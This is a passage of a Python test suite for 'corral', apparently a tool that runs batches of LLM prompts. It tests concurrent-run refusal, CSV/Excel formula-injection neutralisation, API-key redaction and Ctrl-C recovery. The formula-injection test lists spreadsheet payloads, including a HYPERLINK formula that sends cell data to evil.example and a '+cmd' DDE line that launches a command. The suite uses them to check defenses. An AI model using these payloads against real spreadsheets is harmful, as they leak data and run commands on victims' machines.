        assert code == 2 and "another corral process is writing this output" in line_table, err_table
        assert table.poll() is None, "the first table job ended too soon"
        pace[0] = latency
        _, err = table.communicate(timeout=300)
        assert table.returncode == 0, err
        import pandas as pd

        frame = pd.read_csv(work / "t_out.csv")
        assert frame["id"].tolist() == list(range(rows)) and frame["response"].notna().all()
    figures: Figures = {"rows": rows, "refused_seconds": round(seconds, 2), "lost": lost,
                        "duplicated": duplicated, "sent_twice": sent_twice,
                        "message_same_output": line_same, "message_same_store": line_store}
    figures["setup"] = ("a second `corral run` (same command / other output, same --store) and a "
                        "second `corral analyze` while the first runs")
    figures["result"] = (f"refused in {seconds:.1f}s, exit 2: `{line_same[15:95]}...`; nothing "
                         "sent twice; the first run completes exactly once, journal integrity ok")
    return figures


# ---- 12. CSV formula injection ------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "=1+1"]


def formula_injection(work: Path) -> Figures:
    """Answers (and JSON values) that a spreadsheet would run as formulas: written with a leading
    ``'`` in CSV, as text cells in Excel; plain numbers such as -5 untouched."""
    import pandas as pd

    answers = FORMULAS + ["-5", "plain text"]
    (work / "t.csv").write_text("id,text\n" + "".join(f"{i},row {i}\n" for i in range(len(answers))),
                                encoding="utf-8")

    def answer(body: dict[str, Any]) -> str:
        i = int(body["messages"][-1]["content"].rsplit(" ", 1)[1])
        return answers[i]

    cells = 0
    with FakeServer(responder=answer) as server:
        for suffix in ("csv", "xlsx"):
            code, _, err, _ = run_corral(
                ["analyze", "t.csv", "--text-column", "text", "--prompt", "{text}", "--server",
                 server.url, "-m", "llama3.2", "-o", f"out.{suffix}", "--progress", "none"], work)
            assert code == 0, err
        frame = pd.read_csv(work / "out.csv", dtype=str, keep_default_na=False)
        expected = ["'" + a for a in FORMULAS] + ["-5", "plain text"]
        assert frame["response"].tolist() == expected, frame["response"].tolist()
        cells += len(FORMULAS)
        import openpyxl

        sheet = openpyxl.load_workbook(work / "out.xlsx").active
        header = [c.value for c in sheet[1]]
        column = header.index("response") + 1
        kinds = [sheet.cell(row=r, column=column).data_type for r in range(2, len(answers) + 2)]
        values = [sheet.cell(row=r, column=column).value for r in range(2, len(answers) + 2)]
        assert set(kinds) == {"s"} and values[:len(FORMULAS)] == FORMULAS, (kinds, values)
        formulas_in_sheet = sum(1 for row in sheet.iter_rows() for c in row if c.data_type == "f")
        assert formulas_in_sheet == 0
    figures: Figures = {"formula_answers": len(FORMULAS), "csv_neutralised": cells,
                        "xlsx_formula_cells": 0}
    figures["setup"] = ("answers starting with =, +, -, @, tab: " + ", ".join(f"`{a[:12]}`" for a in FORMULAS[:4]))
    figures["result"] = (f"CSV: all {cells} prefixed with `'` (-5 and plain text untouched); "
                         "Excel: 0 formula cells, all text")
    return figures


# ---- 13. an API key never lands anywhere ---------------------------------------------------------

SECRET = "sk-corral-test-0123456789abcdefSECRET"


def secrets(work: Path, rows: int = 60) -> Figures:
    """An OpenAI-compatible server's key given through ``api_key_env``: after a run with debug
    logging, failures and retries (the server quoting the key in its error text, as some proxies
    do), the key is in no file of the run's folder (journal, WAL, outputs, log, manifest) and not in
    anything corral printed."""
    write_prompts(work / "p.jsonl", rows)
    with FakeServer(api="openai", api_key=SECRET, slots=4) as server:
        (work / "c.toml").write_text(
            f'model = "llama3.2"\n[[servers]]\nurl = "{server.url}"\napi = "openai"\n'
            'api_key_env = "CORRAL_TEST_KEY"\n', encoding="utf-8")
        server.fail_message = f"Incorrect API key provided: {SECRET} (quota exceeded)"
        server.fail_next(3, status=429)   # retried, logged with -v
        server.fail_next(2, status=400)   # the rows' errors: journal, output, summary
        args = ["run", "p.jsonl", "-c", "c.toml", "-o", "out.jsonl", "--output-dir", "answers",
                "-vv", "--progress", "log"]
        code, out, err, _ = run_corral(args, work, env={"CORRAL_TEST_KEY": SECRET})
        assert code == 1, err[-2000:]  # the two 400 rows failed
        (work / "run.log").write_text(out + err, encoding="utf-8")
        quoted = [r for r in read_jsonl(work / "out.jsonl") if not r["success"]]
        assert len(quoted) == 2 and all("***" in r["error"] for r in quoted), quoted
        # a wrong key: the probe's refusal must not print the key either
        code2, out2, err2, _ = run_corral(args, work, env={"CORRAL_TEST_KEY": SECRET[:-6] + "WRONG!"})
        assert code2 == 2 and "authentication refused" in err2
        (work / "run2.log").write_text(out2 + err2, encoding="utf-8")
        assert len(server.requests) >= rows  # the key did reach the server
    files = [p for p in work.rglob("*") if p.is_file()]
    leaks = [str(p.relative_to(work)) for p in files if SECRET.encode() in p.read_bytes()]
    for text in (out, err, out2, err2):
        if SECRET in text or SECRET[:-6] in text:
            leaks.append("printed output")
    figures: Figures = {"files_scanned": len(files), "leaks": len(leaks)}
    assert not leaks, leaks
    figures["setup"] = ("key via api_key_env; -vv debug log, 429 retries and 400 errors whose text "
                        "quotes the key; a run with a wrong key")
    figures["result"] = (f"key found in 0 of {len(files)} files of the run folder (journal, "
                         "outputs, per-prompt files, logs) and 0 printed lines; quoted keys "
                         "shown as `***`")
    return figures


# ---- 14. Ctrl-C --------------------------------------------------------------------------------

def ctrl_c(work: Path, rows: int = 400, local: bool = False, slots: int = 8) -> Figures:
    """SIGINT mid-run: corral must stop within seconds with exit 130, journal what arrived, leave no
    child process (the embedded llama.cpp server with ``local``), and the re-run must resume.

    With the fake server the re-sent requests are counted (at most the slots); with ``local`` the
    re-run's rows that come from the journal are counted instead."""
    with ExitStack() as stack:
        db = work / "out.jsonl.corral.db"
        if local:
            write_prompts(work / "p.jsonl", rows, prefix="Name one fruit, then one colour. Item")
            args = ["run", "p.jsonl", "--local", "--max-tokens", "12", "--temperature", "0",
                    "--seed", "1", "-o", "out.jsonl", "--progress", "none"]
            enough = 2
        else:
            server = stack.enter_context(FakeServer(slots=4, latency=0.05))
            write_prompts(work / "p.jsonl", rows)
            args = ["run", "p.jsonl", "--server", server.url, "-m", "llama3.2", "-o", "out.jsonl",
                    "-j", str(slots), "--progress", "none"]
            enough = 30
        proc = start_corral(args, work)
        wait_for(lambda: journal_rows(db) >= enough or proc.poll() is not None, 300,
                 "answers to be journaled", interval=0.1)
        assert proc.poll() is None, proc.communicate()[1]
        kids = children(proc.pid)
        assert kids or not local, "the local server should be a child of corral"
        interrupted = time.monotonic()
        proc.send_signal(signal.SIGINT)
        _, err = proc.communicate(timeout=60)
        stop_seconds = time.monotonic() - interrupted
        assert proc.returncode == 130, err[-2000:]
        assert "interrupted" in err and "Traceback" not in err, err[-2000:]
        wait_for(lambda: not any(alive(c) for c in kids), 10, "the children to be gone")
        journaled = journal_rows(db)
        assert integrity(db) == "ok" and 0 < journaled < rows, journaled
        manifest = json.loads((work / "out.jsonl.manifest.json").read_text())
        # counts follow the rows that ended (journaled), not the rows passed on in input order
        assert manifest["status"] == "interrupted", manifest
        assert manifest["counts"]["done"] == manifest["counts"]["ok"] == journaled, manifest["counts"]
        if not local:
            sent_before = {p for path, body in server.requests for p in prompts_of(path, body)}
            server.reset_stats()
        code, _, err, _ = run_corral(args, work, timeout=600)
        assert code == 0, err[-2000:]
        out = read_jsonl(work / "out.jsonl")
        lost, duplicated = exactly_once(out, rows)
        from_store = sum(r["cached"] for r in out)
        assert not lost and not duplicated and from_store == journaled, (lost, duplicated, from_store)
        manifest = json.loads((work / "out.jsonl.manifest.json").read_text())
        assert manifest["status"] == "complete" and manifest["counts"]["cached"] == journaled
        figures: Figures = {"rows": rows, "local": local, "stop_seconds": round(stop_seconds, 2),
                            "journaled_at_stop": journaled, "children_left": 0,
                            "from_store_on_rerun": from_store}
        if not local:
            resent = sum(1 for path, body in server.requests for p in prompts_of(path, body)
                         if p in sent_before)
            figures["resent"] = resent
            figures["in_flight_at_stop"] = len(sent_before) - journaled
            assert resent <= len(sent_before) - journaled <= slots, figures
    what = "the embedded llama.cpp server" if local else "a fake server"
    figures["setup"] = f"SIGINT during a {rows}-row run on {what}"
    figures["result"] = (f"exit 130 in {stop_seconds:.1f}s, {journaled} answers journaled, "
                         + ("llama.cpp child gone; " if local else "")
                         + f"the re-run takes {from_store} rows from the journal"
                         + (f" and re-sends {figures['resent']} (<= in flight)" if not local else "")
                         + ", lost 0, duplicated 0")
    return figures


# ---- issue 18 item 2: `corral status` beside a running job --------------------------------------

def status_beside_writer(work: Path, rows: int = 4000, slots: int = 8, latency: float = 0.02,
                         read_every: float = 0.05) -> Figures:
    """The same job twice: with status publishing off, then publishing every 0.1 s (20x the
    default) while a reader polls the journal read-only every ``read_every`` s and `corral report`
    runs mid-job. Every read must succeed and see the run alive, the report must be made while the
    job goes on, and the job must be complete with every row once. Figures: both wall times, reads,
    the slowest read, and the largest gap between the rows journaled and the snapshot's ``done``."""
    import threading

    from corral.status import read_status
    from corral.store import JournalReader

    def job(folder: Path, interval: str, reader: bool) -> tuple[float, dict[str, Any]]:
        folder.mkdir()
        write_prompts(folder / "p.jsonl", rows)
        figures: dict[str, Any] = {"reads": 0, "slowest_read": 0.0, "largest_gap": 0, "report": None}
        stop = threading.Event()
        db = folder / "out.jsonl.corral.db"

        def poll() -> None:
            while not stop.is_set():
                if db.exists():
                    began = time.perf_counter()
                    try:
                        with JournalReader(db) as journal:
                            found = read_status(journal)
                    except Exception as exc:  # noqa: BLE001 - counted: must not happen
                        figures["error"] = repr(exc)
                        return
                    figures["slowest_read"] = max(figures["slowest_read"], time.perf_counter() - began)
                    if found.state == "running":
                        figures["reads"] += 1
                        assert found.alive is True, found.as_dict()
                        gap = found.journal_rows["ok"] - int(found.snapshot.get("done") or 0)
                        figures["largest_gap"] = max(figures["largest_gap"], gap)
                stop.wait(read_every)

        with FakeServer(slots=slots, latency=latency) as server:
            args = ["run", "p.jsonl", "--server", server.url, "-m", "llama3.2", "-o", "out.jsonl",
                    "-j", str(slots), "--progress", "none"]
            thread = threading.Thread(target=poll, daemon=True)
            started = time.monotonic()
            proc = start_corral(args, folder, env={"CORRAL_STATUS_INTERVAL": interval})
            if reader:
                thread.start()
                server.wait_until(lambda s: s.completed >= rows // 4, timeout=120)
                code, _, err, _ = run_corral(["report", "out.jsonl", "-o", "live.html"], folder)
                running = proc.poll() is None
                figures["report"] = "made mid-run" if code == 0 and running else f"exit {code}: {err[-200:]}"
            _, err = proc.communicate(timeout=600)
            seconds = time.monotonic() - started
            stop.set()
            if reader:
                thread.join()
            assert proc.returncode == 0, err
            lost, duplicated = exactly_once(read_jsonl(folder / "out.jsonl"), rows)
            assert not lost and not duplicated, (lost, duplicated)
        return seconds, figures

    quiet, _ = job(work / "off", "0", reader=False)
    watched, figures = job(work / "on", "0.1", reader=True)
    assert "error" not in figures, figures
    return {
        "setup": f"{rows} rows, {slots} slots x {latency * 1000:.0f} ms; status every 0.1 s, a reader "
                 f"every {read_every * 1000:.0f} ms, `corral report` mid-run",
        "result": f"{quiet:.1f}s without status, {watched:.1f}s with it and the reader; "
                  f"{figures['reads']} reads, slowest {figures['slowest_read'] * 1000:.1f} ms, "
                  f"journal ahead of the snapshot by at most {figures['largest_gap']} rows; "
                  f"report: {figures['report']}",
    }
